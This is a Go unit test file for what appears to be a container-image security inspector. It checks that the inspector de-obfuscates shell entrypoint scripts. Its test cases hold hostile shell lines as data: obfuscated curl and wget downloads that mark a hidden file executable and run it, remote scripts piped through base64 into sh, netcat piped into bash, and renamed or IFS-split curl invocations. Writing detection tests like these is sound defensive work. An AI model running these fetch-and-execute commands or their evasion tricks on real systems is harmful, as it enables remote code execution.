package closure_test

import (
	"strings"
	"testing"

	"github.com/safepull/safepull/trust/inspect"
)

// What a script does is shown with its variables filled in, and only where that says more than its text.
func TestResolve_shows(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct{ script, want, not string }{
		"with-what-follows":  {"a=cu; b=rl; h=203.0.113\n$a$b -s http://$h.9/k -o /tmp/.k; chmod +x /tmp/.k; /tmp/.k &\n", "curl -s http://203.0.113.9/k -o /tmp/.k\nchmod +x /tmp/.k\n/tmp/.k\n", ""},
		"with-what-is-above": {"cd /tmp\ncurl -s $U\n", "cd /tmp\ncurl -s '$U'\n", ""},
		"pipe":               {"c=curl\n$c -s http://203.0.113.9/x | base64 -d | sh\n", "curl -s http://203.0.113.9/x | base64 -d | sh -\n", ""},
		"pipe-of-words":      {"nc 203.0.113.9 4444 | bash\n", "nc 203.0.113.9 4444 | sh -\n", ""},
		"pipe-of-either":     {"(curl -s http://203.0.113.9/x || wget -qO- http://203.0.113.9/x) | sh\n", "curl -s http://203.0.113.9/x | sh -\n", ""},
		"said":               {"echo true | sh\n", "", "| sh"},
		"renamed":            {"mv /usr/bin/curl /usr/bin/cd1; cd1 -s http://203.0.113.9/k | sh\n", "curl -s http://203.0.113.9/k | sh -\n", ""},
		"copied-as-it-is":    {"cp /usr/bin/curl /opt/bin/curl; cd1 -s x\n", "", "curl -s"},
		"substitution":       {"u=http://203.0.113.9/i\nc='curl -fsS'\nsh -c \"$($c $u)\"\n", "$(curl -fsS http://203.0.113.9/i)\n", ""},
		"nothing-to-fill-in": {"curl -s http://203.0.113.9/k -o /tmp/k\nchmod +x /tmp/k\n", "", "curl"},
		"split-by-a-comma":   {"c='curl,-s,http://203.0.113.9/k,-o,/tmp/.k'; IFS=,; $c; chmod 755 /tmp/.k\n", "curl -s http://203.0.113.9/k -o /tmp/.k\nchmod 755 /tmp/.k\n", ""},
		"read-by-a-comma":    {"IFS=, read -r a b < /x; u=a,b; curl -s $u\n", "curl -s a,b\n", ""},
		"told-what-to-do":    {"nslookup $h | sh -c 'cat'\n", "", "sh -\n"},
		"function":           {"get() { curl -s \"$1\" -o \"$2\"; }\nget http://203.0.113.9/k /tmp/.k\n/tmp/.k\n", "curl -s http://203.0.113.9/k -o /tmp/.k\n/tmp/.k\n", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c := shellImage(tc.script, nil).resolve(inspect.Config{Entrypoint: []string{"/e.sh"}})
			got := ""
			for _, command := range c.Commands {
				got += command.Text
			}
			if !strings.Contains(got, tc.want) || tc.not != "" && strings.Contains(got, tc.not) {
				t.Errorf("got %q", got)
			}
		})
	}
}

// A script of one long pipe, or of very many, costs no more than its length.
func TestResolve_showsNoMoreThanItMay(t *testing.T) {
	t.Parallel()
	for name, script := range map[string]string{
		"long":  "$a x" + strings.Repeat(" | tr $a b", 5000) + " | sh\n",
		"many":  strings.Repeat("$a x | sh\n", 5000),
		"named": strings.Repeat("cp /usr/bin/curl /tmp/a; a x\n", 5000),
		"deep":  "x=" + strings.Repeat("$(a ", 200) + "b" + strings.Repeat(")", 200) + "\n$x | sh\n",
	} {
		c := shellImage(script, nil).resolve(inspect.Config{Entrypoint: []string{"/e.sh"}})
		for _, command := range c.Commands {
			if len(command.Text) > 64<<10 {
				t.Errorf("%s: %d bytes", name, len(command.Text))
			}
		}
	}
}
